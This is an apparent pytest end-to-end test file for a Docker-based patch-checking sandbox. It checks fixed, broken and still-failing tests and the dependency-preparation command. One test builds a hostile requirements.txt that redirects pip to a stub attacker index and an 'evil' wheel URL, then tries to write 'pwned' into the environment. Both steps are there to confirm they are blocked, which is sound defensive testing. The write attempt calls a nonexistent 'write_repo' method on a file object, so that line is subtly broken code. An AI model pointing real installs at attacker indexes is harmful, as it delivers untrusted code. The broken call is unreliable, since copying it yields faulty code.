"""Checks that mean something on real projects (real engine, real pip, real CLI).

Before/after results by test id, `cannot run` (never `failed`) for an incomplete
environment, `lsp-agent sandbox prepare` making a registry dependency available. Node
projects: tests/e2e/test_sandbox_node.py.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from sandbox import open_sandbox
from sandbox.config import SandboxConfig
from sandbox.docker_backend import DockerSandbox
from tests.conftest import git_init
from tests.http_stub import http_stub
from tests.repo_samples import write

pytestmark = pytest.mark.docker

SETTINGS = SandboxConfig(backend="docker", timeout_s=60)

CONF_FIX = """\
--- a/pkg/conf.py
+++ b/pkg/conf.py
@@ -3,2 +3,2 @@
 def port(text):
-    return yaml.safe_load(text)["port"] + 1
+    return yaml.safe_load(text)["port"]
"""

CALC_FIX = """\
--- a/pkg/calc.py
+++ b/pkg/calc.py
@@ -5,2 +5,2 @@
 def sub(a, b):
-    return a + b
+    return a - b
"""

# git apply anchors a hunk without trailing context at the end of the file: keep one.
CALC_BREAK = (
    "--- a/pkg/calc.py\n+++ b/pkg/calc.py\n@@ -1,3 +1,3 @@\n def add(a, b):\n"
    "-    return a + b\n+    return a * b\n \n"
)


def write_repo(root: Path, files: dict[str, str]) -> Path:
    return git_init(write(root, files))


@pytest.fixture
def data_home(tmp_path, monkeypatch):
    """Project environments go under a throwaway XDG_DATA_HOME."""
    home = tmp_path / "data"
    monkeypatch.setenv("XDG_DATA_HOME", str(home))
    return home


@pytest.fixture
def yaml_repo(tmp_path):
    return write_repo(
        tmp_path / "yaml-repo",
        {
            "pyproject.toml": '[project]\nname = "conf"\nversion = "0"\n'
            'dependencies = ["pyyaml>=6"]\n',
            "pkg/__init__.py": "",
            "pkg/conf.py": "import yaml\n\ndef port(text):\n"
            '    return yaml.safe_load(text)["port"] + 1\n',
            "tests/test_conf.py": "from pkg.conf import port\n\n\ndef test_port():\n"
            '    assert port("port: 8080") == 8080\n',
        },
    )


@pytest.fixture
def calc_repo(tmp_path):
    """`sub` is wrong (its test fails) and `test_slow` fails whatever the patch."""
    return write_repo(
        tmp_path / "calc-repo",
        {
            "pkg/__init__.py": "",
            "pkg/calc.py": "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n"
            "    return a + b\n",
            "tests/test_calc.py": "from pkg.calc import add, sub\n\n\ndef test_add():\n"
            "    assert add(2, 3) == 5\n\n\ndef test_sub():\n    assert sub(5, 3) == 2\n",
            "tests/test_io.py": "def test_slow():\n    assert False, 'flaky on purpose'\n",
        },
    )


def docker_box(repo: Path) -> DockerSandbox:
    box = open_sandbox(repo, SETTINGS)
    assert isinstance(box, DockerSandbox)
    return box


def test_missing_dependency_cannot_run_and_prepare_makes_the_fix_pass(
    yaml_repo, data_home, sandbox_image
):
    with docker_box(yaml_repo) as box:
        before = box.check_patch(CONF_FIX)
    assert before.applies
    assert (before.check_status, before.check_passed) == ("cannot run", None)
    assert "No module named 'yaml'" in before.summary()
    assert "lsp-agent sandbox prepare" in before.summary()

    refused = _cli("sandbox", "prepare", "--repo", str(yaml_repo))
    assert refused.returncode == 2, refused.stderr
    assert "pyyaml>=6" in refused.stderr
    assert not (data_home / "lsp-agent" / "envs").exists() or not any(
        (data_home / "lsp-agent" / "envs").iterdir()
    )

    prepared = _cli("sandbox", "prepare", "--repo", str(yaml_repo), "--yes")
    assert prepared.returncode == 0, prepared.stderr
    env_dir = Path(prepared.stdout.strip().rsplit(" ", 1)[-1])
    assert (env_dir / "yaml" / "__init__.py").is_file()

    with docker_box(yaml_repo) as box:
        after = box.check_patch(CONF_FIX)
    assert (after.check_status, after.check_passed) == ("passed", True), after.output
    assert after.fixed == ("tests/test_conf.py::test_port",)
    assert after.broken == ()
    assert "fixed: tests/test_conf.py::test_port" in after.summary()


def test_a_fix_reports_fixed_and_still_failing_and_nothing_broken(calc_repo, sandbox_image):
    with docker_box(calc_repo) as box:
        result = box.check_patch(CALC_FIX)
        again = box.check_patch(CALC_FIX)
        assert box.baselines.hits >= 1  # the unpatched run was not repeated
    assert (result.check_status, result.check_passed) == ("passed", True), result.output
    assert result.fixed == ("tests/test_calc.py::test_sub",)
    assert result.still_failing == ("tests/test_io.py::test_slow",)
    assert result.broken == ()
    assert result.summary() == (
        "applies: yes; check: passed [docker] — fixed: tests/test_calc.py::test_sub; "
        "broken: none; still failing: tests/test_io.py::test_slow (failing before the patch) "
        "— python -m pytest -q"
    )
    assert (again.fixed, again.still_failing) == (result.fixed, result.still_failing)


def test_a_patch_that_breaks_a_passing_test_reports_it_broken(calc_repo, sandbox_image):
    with docker_box(calc_repo) as box:
        result = box.check_patch(CALC_BREAK)
    assert (result.check_status, result.check_passed) == ("failed", False), result.output
    assert result.broken == ("tests/test_calc.py::test_add",)
    assert set(result.still_failing) == {
        "tests/test_calc.py::test_sub",
        "tests/test_io.py::test_slow",
    }
    assert result.to_dict()["broken"] == ("tests/test_calc.py::test_add",)


def test_a_repository_cannot_redirect_prepare_and_checks_cannot_write_the_env(
    tmp_path, data_home, sandbox_image
):
    """Attack: requirement files that point pip at the attacker's index and wheel URL."""
    hits: list[str] = []

    def attacker(path: str, body: object) -> tuple[int, object]:
        hits.append(path)
        return 404, {}

    with http_stub(attacker) as evil:
        repo = write_repo(
            tmp_path / "evil-repo",
            {
                "requirements.txt": f"--index-url {evil}/simple\n"
                f"--extra-index-url {evil}/more\n--trusted-host 127.0.0.1\n"
                f"-f {evil}/wheels\nevil @ {evil}/evil-1.0-py3-none-any.whl\nsix\n",
                "tests/test_six.py": "import six\n\n\ndef test_six():\n    assert six.PY3\n",
            },
        )
        prepared = _cli("sandbox", "prepare", "--repo", str(repo), "--yes")
    assert prepared.returncode == 0, prepared.stderr
    assert hits == [], "pip was sent to the repository's index"
    assert "ignored:      requirements.txt: --index-url" in prepared.stderr
    env_dir = Path(prepared.stdout.strip().rsplit(" ", 1)[-1])
    assert (env_dir / "six.py").is_file()
    assert not any("evil" in path.name for path in env_dir.iterdir())

    with docker_box(repo) as box:
        write_env = box.run(
            ["python", "-c", "open('/opt/lsp-agent-env/six.py', 'a').write_repo('pwned = 1')"]
        )
        imported = box.run(["python", "-c", "import six; print(six.__file__)"])
    assert write_env.exit_code != 0
    assert "Read-only file system" in write_env.stderr or "Permission denied" in write_env.stderr
    assert imported.stdout.strip() == "/opt/lsp-agent-env/six.py"
    assert "pwned" not in (env_dir / "six.py").read_text()


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "lsp_agent", *args],
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        env=dict(os.environ),
        timeout=600,
    )
